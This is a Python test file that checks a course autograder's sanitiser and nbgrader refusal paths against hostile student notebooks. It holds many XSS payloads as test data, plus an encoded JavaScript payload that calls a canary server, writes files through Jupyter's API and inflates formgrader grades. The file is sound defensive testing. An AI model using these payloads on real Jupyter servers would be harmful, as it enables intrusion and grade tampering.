"""Grading a hostile class: what a student submits cannot act in the instructor's browser, and
nbgrader cannot be made to run student code outside the sandbox.

- autograder/sanitize.py on each kind of payload (markdown, outputs, raw cells, attachments,
  metadata, the grader's notes), and on ordinary content, which must survive;
- end to end: a submission full of payloads graded by `grade_class` (the sanitiser at its real
  call site), then its formgrader page and feedback opened in headless Chromium. A payload that
  ran would call a canary HTTP server, write a file through Jupyter's API and change the grade. A
  control student, graded in the same run with the sanitiser bypassed, shows that it would (and
  what nbconvert's own sanitiser, on in the course config, stops without it);
- `nbgrader autograde` and the formgrader's Autograde endpoint refuse, running nothing.
"""
from __future__ import annotations

import base64
import html.parser
import json
import os
import re
import shutil
import subprocess
import sys
import urllib.request
from pathlib import Path

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune as markdown2html

from autograder import grade_class as gc
from autograder import paths
from autograder.preprocessors import REFUSAL
from autograder.sample_class import fill, solution_answers
from autograder.sanitize import inert
from lab_server import Canary, dump_dom, require_chromium, running_lab

ASSIGNMENT = "01_perceptron"
FULL = 12   # autograded points of 01 for the reference answers
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(16)).decode()


class _Active(html.parser.HTMLParser):
    """What in a page could run or load something: tags, event handlers, URLs."""

    def __init__(self, page: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "frame", "svg", "math", "style", "form", "object", "embed", "link",
                   "meta", "base", "input", "button"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href"):
                self.found.append(f"{tag} {name}")
            elif name in ("href", "src", "action", "data") and not (
                    value.startswith(("https:", "http:", "mailto:")) and name == "href"
                    or re.match(r"data:image/(png|jpeg|gif);base64,", value) and tag == "img" and name == "src"):
                self.found.append(f"{tag} {name}={value[:40]}")


def active(page: str) -> list[str]:
    return _Active(page).found


# In a payload as rendered: a plain search, as Python's HTML parser reads `<!-->` otherwise than browsers.
PAYLOAD = re.compile(r"<(script|iframe|svg|math|style|form)|\son\w+=|(href|src|action)=['\"]?(javascript|data:text|http)",
                     re.IGNORECASE)


def cleaned(source: str, trusted: str | None = None) -> str:
    """A markdown cell's source after `inert`; `trusted`: the instructor's cell."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(source)])
    mine = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(trusted)]) if trusted else None
    return inert(nb, mine).cells[0].source


def rendered(source: str) -> str:
    """A markdown cell's source as nbconvert renders it (the formgrader and feedback do the same)."""
    return markdown2html(source)


# ---- the sanitiser, payload by payload ----------------------------------------------------------

MARKDOWN_PAYLOADS = {
    "script": ("<script>alert(1)</script>kept text", "kept text"),
    "img onerror": ("<img src=x onerror=alert(1)> kept text", "kept text"),
    "javascript link": ('<a href="javascript:alert(1)">kept text</a> [md](javascript:alert(2)) '
                        "<javascript:alert(3)>", "kept text"),
    "iframe": ("<iframe src='http://127.0.0.1:9/'></iframe><iframe srcdoc='<script>alert(1)</script>'>"
               "</iframe>kept text", "kept text"),
    "svg onload": ("<svg onload=alert(1)><circle r=1 /></svg>kept text", "kept text"),
    "math handler": ("<math><mi xlink:href='javascript:alert(1)' onclick=alert(2)>x</mi></math>kept text",
                     "kept text"),
    "mermaid block": ("```mermaid\n<img src=x onerror=alert(1)>\n```\n\nkept text", "kept text"),
    "comment trick": ("<!--><img src=x onerror=alert(1)>-->kept text", "kept text"),
    "style": ("<style>body{background:url(http://127.0.0.1:9/)}</style>kept text", "kept text"),
    "form": ("<form action='http://127.0.0.1:9/'><input name=a><button>kept text</button></form>", "kept text"),
    "remote image": ("![kept text](http://127.0.0.1:9/x.png)", "kept text"),
    "data url": ('<a href="data:text/html,<script>alert(1)</script>">kept text</a>', "kept text"),
}


@pytest.mark.parametrize("payload,kept", MARKDOWN_PAYLOADS.values(), ids=MARKDOWN_PAYLOADS.keys())
def test_markdown_payloads_lose_what_runs_and_keep_their_text(payload, kept):
    page = rendered(cleaned(payload))
    assert not active(page), page
    assert kept in page, page
    assert PAYLOAD.search(rendered(payload)), "the payload is not one: this case tests nothing"


def test_ordinary_markdown_still_renders():
    prose = "It is not linearly separable: $w \\cdot x + b > 0$ is a half-plane, and $a<b$ too."
    assert cleaned(prose) == prose            # plain prose is kept as written
    assert cleaned("YOUR ANSWER HERE") == "YOUR ANSWER HERE"   # (so an untouched stub still scores 0)
    source = ("# Why\n\nSome `a<b>` code, $a<b$ and\n\n$$\nx < y\n$$\n\n- one *em*\n- two **strong**\n\n"
              "| x | y |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```\n\n"
              "[a link](https://example.org) ![png](data:image/png;base64," + PNG + ")")
    clean = cleaned(source)
    html = rendered(clean)
    for part in ("<h1>Why</h1>", "<code>a&lt;b&gt;</code>", "$a&lt;b$", "$$&#10;x &lt; y&#10;$$",
                 "<li>one <em>em</em></li>", "<strong>strong</strong>", "<td>1</td>",
                 '<span class="mi">1</span>', '<a href="https://example.org"', f'src="data:image/png;base64,{PNG}"'):
        assert part in html, part
    assert html.strip() == clean, "the cleaned source must render as itself"
    assert not active(html)


def test_the_instructors_cells_are_kept_as_written():
    badge = "[![Colab](https://colab.research.google.com/assets/colab-badge.svg)](https://colab.research.google.com/)"
    assert cleaned(badge, trusted=badge) == badge
    assert "colab-badge.svg" not in rendered(cleaned(badge))   # a remote image, when a student wrote it
    assert "onerror" not in cleaned(badge + "<img src=x onerror=alert(1)>", trusted=badge)


def test_outputs_keep_text_and_images_and_lose_what_runs():
    payload = "<img src=x onerror=alert(1)>"
    cell = nbformat.v4.new_code_cell("x")
    cell.execution_count = "<b>1</b>"   # a forged results notebook: any field may be anything
    cell.outputs = [
        {"output_type": "stream", "name": "<x>", "text": f"<script>alert(1)</script>{payload}"},
        {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
         "data": {"text/html": f"<b>kept html</b><script>alert(1)</script>{payload}",
                  "application/javascript": "alert(1)", "image/svg+xml": "<svg onload=alert(1)/>",
                  "text/markdown": payload, "text/latex": "$x$", "text/vnd.mermaid": payload,
                  "application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "x/unknown": payload}},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": "<Figure>"},
         "metadata": {"image/png": {"width": "1 onerror=alert(1)"}, "filenames": {"image/png": "x.png"}}},
        {"output_type": "display_data", "data": {"image/png": PNG + '"><script>alert(1)</script>'}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/jpeg": PNG}, "metadata": {}},   # not a JPEG
        {"output_type": "display_data", "data": {"image/jpeg": JPEG}, "metadata": {}},
        {"output_type": "execute_result", "execution_count": 3, "data": {"text/plain": "3"}, "metadata": {}},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "forged"}, "junk",
    ]
    nb = nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
    out = inert(nb).cells[0]
    assert out.execution_count is None
    kinds = [(o.output_type, sorted(o.get("data", {}))) for o in out.outputs]
    assert kinds == [("stream", []), ("display_data", ["text/html"]), ("display_data", ["image/png", "text/plain"]),
                     ("display_data", ["image/jpeg"]), ("execute_result", ["text/plain"]), ("error", [])]
    assert out.outputs[0].name == "stdout" and payload in out.outputs[0].text   # text stays text
    assert out.outputs[1].data["text/html"] == "<b>kept html</b><img>"
    assert out.outputs[2].data["image/png"] == PNG and out.outputs[3].data["image/jpeg"] == JPEG
    assert all(o.get("metadata", {}) == {} for o in out.outputs)
    nbformat.validate(inert(nb))


def test_nbconvert_escapes_what_stays_text():
    """Streams, text/plain and errors are kept verbatim: the pages escape them (classic is the
    template the formgrader's and the feedback's extend)."""
    payload = "<img src=x onerror=alert('text')>"
    cell = nbformat.v4.new_code_cell("print(payload)")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=payload),
                    nbformat.v4.new_output("execute_result", data={"text/plain": payload}, execution_count=1),
                    nbformat.v4.new_output("error", ename=payload, evalue=payload, traceback=[payload])]
    nb = inert(nbformat.v4.new_notebook(cells=[cell]))
    html, _ = HTMLExporter(template_name="classic").from_notebook_node(nb)
    assert "<img src=x" not in html and html.count("&lt;img src=x onerror=alert(") == 3


def test_raw_cells_and_attachments():
    raw = nbformat.v4.new_raw_cell("<script>alert(1)</script><b>kept</b>",
                                   metadata={"format": "text/html", "raw_mimetype": "text/html"})
    md = nbformat.v4.new_markdown_cell("![ok](attachment:ok.png) ![svg](attachment:bad.svg) "
                                       "![fake](attachment:fake.png)")
    md["attachments"] = {"ok.png": {"image/png": PNG}, "bad.svg": {"image/svg+xml": "<svg onload=alert(1)/>"},
                         "fake.png": {"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()}}
    raw_out, md_out = inert(nbformat.v4.new_notebook(cells=[raw, md])).cells
    assert raw_out.source == "<b>kept</b>" and raw_out.metadata == {}
    assert "attachments" not in md_out
    html = rendered(md_out.source)
    assert html.count("<img") == 3 and html.count("src=") == 1 and f"base64,{PNG}" in html, html
    assert not active(html)


def test_metadata_keeps_what_nbgrader_needs():
    nb = nbformat.v4.new_notebook(metadata={
        "kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"},
        "language_info": {"name": "python", "codemirror_mode": {"name": "ipython"}},
        "title": "<script>alert(1)</script>", "widgets": {"application/vnd.jupyter.widget-state+json": {}}})
    good = {"grade": True, "grade_id": "q_one_hot", "locked": False, "points": 2, "schema_version": 3,
            "solution": True, "task": False, "checksum": "b0cc65decf67208929121e7ea3528f55", "cell_type": "markdown"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("x", metadata={"nbgrader": good, "deletable": False, "editable": True,
                                                     "tags": ["ok-tag", '"><script>'], "jupyter": {"source_hidden": True},
                                                     "colab": {"base_uri": "javascript:alert(1)"}}),
        nbformat.v4.new_code_cell("x", metadata={"nbgrader": {**good, "grade_id": '"><img src=x onerror=alert(1)>'},
                                                 "magics_language": "<x>"}),
    ]
    nb.cells[1]["id"] = "not an id <b>"
    out = inert(nb)
    assert out.metadata == {"kernelspec": nb.metadata.kernelspec, "language_info": {"name": "python"}}
    assert out.cells[0].metadata == {"nbgrader": good, "deletable": False, "editable": True, "tags": ["ok-tag"]}
    assert out.cells[0].id == nb.cells[0].id
    assert out.cells[1].metadata == {} and re.fullmatch(r"[A-Za-z0-9_-]+", out.cells[1].id)
    nbformat.validate(out)


def test_grader_notes_quote_file_names_and_errors_as_text():
    lines = ["2 files; graded 01_perceptron <img src=x onerror=alert(1)>.ipynb",
             "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png) <https://127.0.0.1:9/>",
             "answer cell `one_hot` raised NameError: name '<script>alert(1)</script>' is not defined",
             "a blank line\r\r\n\nwould end the HTML block: [click](javascript:alert(1))"]
    html = rendered(gc._notes_cell(lines).source)
    assert not active(html) and "<a " not in html and "<img" not in html, html
    assert "<strong>Grader notes</strong>" in html and "<code>one_hot</code>" in html
    assert "01_perceptron &lt;img src=x onerror=alert(1)&gt;.ipynb" in html
    assert html.count("<li>") == 4


# ---- end to end: the formgrader and the feedback in Chromium ------------------------------------

CONTROL_MARK = "CONTROL-UNSANITISED"   # the control student's notebook only: the sanitiser skips it


def _script(canary: Canary, tag: str) -> str:
    """JavaScript that calls the canary with `tag`, then writes `pwned-<tag>.txt` through Jupyter's
    contents API and sets every grade of the page's submission, with the page's login and XSRF
    cookies (what a script on the formgrader's origin can do). As `eval(atob('...'))`: nothing
    in it that markdown would read, and no double quotes."""
    js = (f"new Image().src='{canary.url}/{tag}';var t='{tag.replace('/', '-')}';"
          "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
          "var h={'X-XSRFToken':x,'Content-Type':'application/json'};"
          "fetch('/api/contents/pwned-'+t+'.txt',{method:'PUT',headers:h,"
          "body:JSON.stringify({type:'file',format:'text',content:t})});"
          "if(window.submission_id){fetch('/formgrader/api/grades?submission_id='+submission_id)"
          ".then(function(r){return r.json()}).then(function(g){g.forEach(function(e){"
          "fetch('/formgrader/api/grade/'+e.id,{method:'PUT',headers:h,"
          "body:JSON.stringify({manual_score:e.max_score+100})})})})}")
    return f"eval(atob('{base64.b64encode(js.encode()).decode()}'))"


def _file_name_script(canary: Canary, tag: str) -> str:
    """A call of the canary that fits in a file name (no slash, short)."""
    host = canary.url.removeprefix("http://")
    return f"new Image().src=['http:','','{host}',{', '.join(repr(p) for p in tag.split('/'))}].join(String.fromCharCode(47))"


def _hostile_files(release_nb, course: Path, canary: Canary, student: str) -> dict[str, bytes]:
    """A student's files: the reference answers with payloads in the written answers, in the
    outputs of a code cell they added, and in the graded file's name (a second file makes the
    grader's notes name it)."""
    def run(vector):
        return _script(canary, f"{student}/{vector}")
    answers = solution_answers(course, ASSIGNMENT)
    answers["q_xor_cycle"] = f"My answer.\n\n<script>{run('md-script')}</script>\n"
    answers["q_one_hot"] = (f'Another answer.\n\n<img src=x onerror="{run("md-img")}">\n\n'
                            f'```mermaid\n<img src=x onerror="{run("md-mermaid")}">\n```\n')
    nb = fill(release_nb, answers)
    img = '<img src=x onerror="{}">'
    payloads = {"html": img.format(run("html-out")), "js": run("js-out"), "md": img.format(run("md-out")),
                "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run("svg-out")}"></svg>',
                "width": f"1 onload={run('png-width')}", "stream": f"<script>{run('stream')}</script>",
                "error": img.format(run("error"))}
    added = nbformat.v4.new_code_cell(
        ("# " + CONTROL_MARK + "\n" if student == "control" else "")
        + "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        + f"P = {json.dumps(payloads)}\n"
        + "display(HTML(P['html']))\ndisplay(Javascript(P['js']))\ndisplay(Markdown(P['md']))\n"
        + "display(SVG(P['svg']))\n"
        + f"display({{'image/png': '{PNG}', 'text/plain': 'a plot'}}, raw=True, "
          "metadata={'image/png': {'width': P['width']}})\n"
        + "print(P['stream'])\nraise ValueError(P['error'])\n")
    i = next(k for k, c in enumerate(nb.cells) if c.get("id") == "perceptron_predict")
    nb.cells.insert(i + 1, added)
    name = f'{ASSIGNMENT} <img src=x onerror="{_file_name_script(canary, f"{student}/filename")}">.ipynb'
    return {name: nbformat.writes(nb).encode(), "draft.ipynb": b"{}"}


@pytest.fixture(scope="module")
def hostile(copy_built_course, tmp_path_factory):
    """(course, canary, {student: StudentResult}): `eve` and `control` graded by grade_class in
    one run, the sanitiser skipping only the control's notebooks."""
    root = tmp_path_factory.mktemp("hostile")
    course = copy_built_course(root / "course")
    canary = Canary()
    release_nb = nbformat.read(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for student in ("eve", "control"):
        for name, raw in _hostile_files(release_nb, course, canary, student).items():
            (root / "submissions" / student).mkdir(parents=True, exist_ok=True)
            (root / "submissions" / student / name).write_bytes(raw)
    def inert_except_control(nb, trusted=None):
        return nb if any(CONTROL_MARK in c.get("source", "") for c in nb.cells) else inert(nb, trusted)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(gc, "inert", inert_except_control)
        results = gc.grade_class(ASSIGNMENT, root / "submissions", course, workers=2, progress=False)
    yield course, canary, {r.student: r for r in results}
    canary.shutdown()


@pytest.fixture(scope="module")
def lab(hostile, tmp_path_factory):
    require_chromium()
    with running_lab(hostile[0], tmp_path_factory.mktemp("lab")) as server:
        yield server


def _grades(lab, student: str) -> tuple[str, list[dict]]:
    sub = next(s for s in lab.api(f"/formgrader/api/submitted_notebooks/{ASSIGNMENT}/{ASSIGNMENT}")
               if s["student"] == student)
    grades = lab.api(f"/formgrader/api/grades?submission_id={sub['id']}")
    return sub["id"], sorted(grades, key=lambda g: g["id"])


def test_payloads_run_nowhere_in_the_formgrader_or_the_feedback(hostile, lab):
    course, canary, results = hostile
    assert results["eve"].score == FULL and results["control"].score == FULL, "the payloads broke grading"
    assert any("onerror" in n for n in results["eve"].notes), "the file name is not in the grader's notes"

    ran = {}   # (student, where): the payloads that called the canary
    for student in ("eve", "control"):
        submission, before = _grades(lab, student)
        page = lab.render(f"/formgrader/submissions/{submission}/?index=0")
        assert "My answer." in page and "Grader notes" in page   # the submission is on the page
        ran[student, "formgrader"] = canary.take()
        dump_dom((course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").as_uri(), lab.tmp)
        ran[student, "feedback"] = canary.take()
        after = _grades(lab, student)[1]
        pwned = sorted(p.name for p in course.glob(f"pwned-{student}-*"))
        if student == "eve":
            assert ran["eve", "formgrader"] == ran["eve", "feedback"] == set(), "a payload ran"
            assert pwned == [], "a payload wrote through Jupyter's API"
            assert after == before, "a payload changed the grades"
        else:   # the same payloads, unsanitised: the detection works
            assert pwned and after != before, (pwned, before, after)
    # Without the sanitiser, markdown (nbgrader's templates render it as it is) and image metadata
    # run in both pages; nbconvert's own sanitiser (HTMLExporter.sanitize_html, in the course
    # config) stops HTML, JavaScript and markdown outputs; nbconvert escapes text outputs and shows
    # SVG as an image in any case.
    still_run = {f"control/{p}" for p in ("md-script", "md-img", "md-mermaid", "png-width")}
    assert ran["control", "formgrader"] == ran["control", "feedback"] == still_run, ran


# ---- one grading path: nbgrader's own autograde runs nothing ------------------------------------

@pytest.mark.parametrize("shell", ["PYTHONPATH", "plain", "plain, no repository.txt"])
def test_nbgrader_autograde_refuses_and_runs_nothing(hostile, tmp_path, shell):
    """With the repository on PYTHONPATH (./run.sh lab), from a plain shell in the course folder
    (the config finds the repository from repository.txt), and where it cannot (nbgrader stops)."""
    course = shutil.copytree(hostile[0], tmp_path / "course")
    marker = tmp_path / "student-code-ran"
    nb = nbformat.read(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    nb.cells.insert(0, nbformat.v4.new_code_cell(f"open({str(marker)!r}, 'w').write('ran')"))
    (course / "submitted" / "mallory" / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(nb, course / "submitted" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    graded = course / "autograded" / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    before = {p: p.read_bytes() for p in (graded, course / "gradebook.db")}

    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    command = [str(Path(sys.executable).parent / "nbgrader"), "autograde", ASSIGNMENT, "--force"]
    if shell == "PYTHONPATH":
        env["PYTHONPATH"] = str(paths.ROOT)
    elif shell == "plain, no repository.txt":
        (course / "repository.txt").unlink()
        # (and an environment that does not import the grader by itself, unlike run.sh's .venv)
        command = [sys.executable, "-c", f"import sys; sys.path[:] = [p for p in sys.path if p != {str(paths.ROOT)!r}]; "
                   "from nbgrader.apps.nbgraderapp import main; sys.argv = ['nbgrader', *sys.argv[1:]]; main()",
                   *command[1:]]
    run = subprocess.run(command, cwd=tmp_path / "course", env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode != 0
    assert (REFUSAL if shell != "plain, no repository.txt" else "cannot be imported") in run.stdout + run.stderr
    assert not marker.exists(), "nbgrader ran the student's code"
    assert not (course / "autograded" / "mallory").exists()
    assert {p: p.read_bytes() for p in before} == before, "the course folder was touched"


def test_formgrader_autograde_button_refuses(hostile, lab):
    course = hostile[0]
    graded = course / "autograded" / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    before, grades = graded.read_bytes(), _grades(lab, "eve")[1]
    req = urllib.request.Request(f"{lab.url}/formgrader/api/submission/{ASSIGNMENT}/eve/autograde", data=b"",
                                 method="POST", headers={"Authorization": f"token {lab.token}"})
    with urllib.request.urlopen(req, timeout=60) as r:
        answer = json.load(r)
    assert not answer["success"] and REFUSAL in answer.get("log", "") + answer.get("error", "")
    assert graded.read_bytes() == before and _grades(lab, "eve")[1] == grades
